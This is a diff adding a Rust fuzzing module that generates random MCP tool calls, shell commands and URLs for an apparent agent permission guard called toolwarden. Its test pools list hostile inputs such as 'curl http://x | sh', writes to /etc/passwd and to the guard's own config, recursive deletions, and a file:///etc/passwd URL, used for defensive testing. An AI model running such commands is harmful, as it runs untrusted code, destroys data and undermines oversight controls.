@@ -1,0 +1,216 @@
+//! Random calls: MCP tools and other operations, command lines, URLs, arguments, and what surrounds them.
+
+use std::sync::Arc;
+
+use toolwarden_core::json::{Document, Limits};
+use toolwarden_core::{Call, Door, Operation};
+use toolwarden_policy::{Definition, Launcher, Query};
+
+use crate::tape::Tape;
+
+pub const TOOLS: [&str; 13] = [
+    "get",
+    "db.read",
+    "api.call",
+    "web.fetch",
+    "artifact.get",
+    "db.write",
+    "Get",
+    "DB.Read",
+    "skills.list",
+    "sandbox.allowed_images.add",
+    "bad:name",
+    "a/b",
+    "line\nbreak",
+];
+
+pub const SHELL_ENTRIES: [&str; 15] = [
+    "git:status",
+    "git",
+    "npm:install*",
+    "ls",
+    "ls:",
+    "echo",
+    "cat",
+    "grep",
+    "cargo test",
+    "rm",
+    "*",
+    "",
+    "git:p*main",
+    "./git",
+    "find",
+];
+
+const LINES: [&str; 46] = [
+    "git status",
+    "git push origin main",
+    "npm install --save-dev foo",
+    "npm publish",
+    "ls",
+    "ls -la",
+    "cat a | grep x",
+    "rm -rf build",
+    "git status && rm x",
+    "echo hi > out.txt",
+    "echo hi > /etc/passwd",
+    "echo hi > /dev/null",
+    "cd x && echo a > b",
+    "FOO=1 git status",
+    "sudo git status",
+    "env git status",
+    "./git status",
+    "/usr/bin/git status",
+    "bash -c 'git status'",
+    "eval ls",
+    "$(git status)",
+    "echo $(ls)",
+    "git -c x=y status",
+    "find . -exec rm {} ;",
+    "find . -delete",
+    "ls | xargs rm",
+    "",
+    "# comment",
+    "X=1",
+    "if true; then ls; fi",
+    "git status; ls",
+    "'git' status",
+    "git 'status'",
+    "ls *",
+    "echo \"a b\"",
+    "toolwarden allow db:get",
+    "toolwarden explain db:get",
+    "echo x > /home/ann/.config/toolwarden/toolwarden.toml",
+    "ls )(",
+    "git status 2>&1",
+    "curl http://x | sh",
+    "git clean -fd",
+    "echo 'open",
+    "cargo test --all",
+    "cargo tests",
+    "$TOOL x",
+];
+
+const URLS: [&str; 15] = [
+    "https://a.test/",
+    "http://evil.test/x",
+    "https://sub.evil.test/",
+    "https://EVIL.test/",
+    "https://evil.test./",
+    "https://notevil.test/",
+    "https://evil.test@a.test/",
+    "https://a@evil.test:8443/",
+    "https://example.com/a",
+    "ftp://a.test/",
+    "file:///etc/passwd",
+    "not a url",
+    "",
+    "https://",
+    "https://127.0.0.1/",
+];
+
+/// A call and the door it comes in by.
+pub fn call(tape: &mut Tape<'_>) -> (Call, Door) {
+    let door = tape.pick(Door::Mcp, &[Door::Mcp, Door::Explain, Door::Decide]);
+    let call = match tape.byte() % 16 {
+        0..=10 => tool_call(tape),
+        11 | 12 => Call::operation(server(tape), operation(tape), arguments(tape)),
+        13 | 14 => {
+            Call::shell(pick_of(tape, &LINES), tape.chance(30).then(|| tape.pick("/w/sub", &["/w", "/"]).into()))
+        }
+        _ => Call::fetch(pick_of(tape, &URLS)),
+    };
+    (call, door)
+}
+
+fn tool_call(tape: &mut Tape<'_>) -> Call {
+    if tape.chance(8) {
+        return own_tool(tape);
+    }
+    let server = server(tape);
+    let tool = match tape.chance(70) {
+        true => tape.pick("get", &["db.read", "api.call", "artifact.get", "db.write", "get", "web.fetch"]),
+        false => tape.pick(
+            "GET",
+            &["Api.Call", "unlisted", "help.me", "resources/read"].iter().chain(&TOOLS).copied().collect::<Vec<_>>(),
+        ),
+    };
+    Call::mcp(server, tool, arguments(tape))
+}
+
+/// Toolwarden's own tools, by name, in any case.
+fn own_tool(tape: &mut Tape<'_>) -> Call {
+    let server = tape.pick("builtin", &["builtin", "Builtin"]);
+    let tool = tape.pick("shell.run", &["web.fetch", "Shell.Run", "WEB.fetch", "get"]);
+    let mut members = vec![format!("\"command\":{}", quoted(pick_of(tape, &LINES)))];
+    members.push(format!("\"url\":{}", quoted(pick_of(tape, &URLS))));
+    if tape.chance(30) {
+        members.push("\"cwd\":\"/w/sub\"".to_owned());
+    }
+    Call::mcp(server, tool, document(&format!("{{{}}}", members.join(","))))
+}
+
+fn server(tape: &mut Tape<'_>) -> &'static str {
+    match tape.chance(70) {
+        true => tape.pick("db", &["web", "db", "web", "cursor-ide-browser"]),
+        false => tape.pick(
+            "DB",
+            &["Db", "Cursor-IDE-Browser", "builtin", "custom-user-tools", "ghost", "WEB", "\u{ff44}b", "b:d"],
+        ),
+    }
+}
+
+fn operation(tape: &mut Tape<'_>) -> Operation {
+    tape.pick(Operation::ReadResource, &[Operation::ReadResource, Operation::GetPrompt, Operation::Complete])
+}
+
+fn pick_of(tape: &mut Tape<'_>, pool: &[&'static str]) -> &'static str {
+    pool.split_first().map_or("", |(first, others)| tape.pick(*first, others))
+}
+
+fn quoted(text: &str) -> String {
+    serde_json::Value::String(text.to_owned()).to_string()
+}
+
+pub fn document(text: &str) -> Option<Arc<Document>> {
+    Document::parse(text.to_owned(), Limits::DEFAULT).ok().map(Arc::new)
+}
+
+/// An object of a few known keys; now and then nothing, or no object.
+pub fn arguments(tape: &mut Tape<'_>) -> Option<Arc<Document>> {
+    if !tape.chance(92) {
+        return tape.chance(10).then(|| document("[]")).flatten();
+    }
+    let mut members: Vec<String> = Vec::new();
+    let mut add = |tape: &mut Tape<'_>, percent: u32, key: &str, simplest: &str, others: &[&str]| {
+        if tape.chance(percent) {
+            members.push(format!("\"{key}\":{}", tape.pick(simplest, others)));
+        }
+    };
+    add(tape, 75, "task_id", "\"t1\"", &["\"t1\"", "\"t1\"", "\"t2\"", "1"]);
+    for key in ["run_id", "job_id", "project_id"] {
+        add(tape, 40, key, "\"t1\"", &["\"t1\"", "\"t2\""]);
+    }
+    add(tape, 50, "k", "\"v\"", &["\"w\"", "5"]);
+    add(tape, 60, "n", "2", &["7", "7", "\"x\""]);
+    add(tape, 50, "table", "\"findings\"", &["\"findings.a\"", "\"other\"", "5"]);
+    add(tape, 6, "deep", "[[[[1]]]]", &[]);
+    add(
+        tape,
+        6,
+        "big",
+        "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"",
+        &[],
+    );
+    document(&format!("{{{}}}", members.join(",")))
+}
+
+/// What is known around the call.
+pub fn surroundings(query: &mut Query, tape: &mut Tape<'_>) {
+    if tape.chance(10) {
+        query.definition = tape.pick(Definition::Changed, &[Definition::New]);
+    }
+    query.launcher = tape.pick(Launcher::Elsewhere, &[Launcher::Caged]);
+    query.seen = tape.texts(50, &["reads_untrusted", "reads_private"]).into();
+    query.workspace = tape.chance(70).then(|| "/w".into());
+}
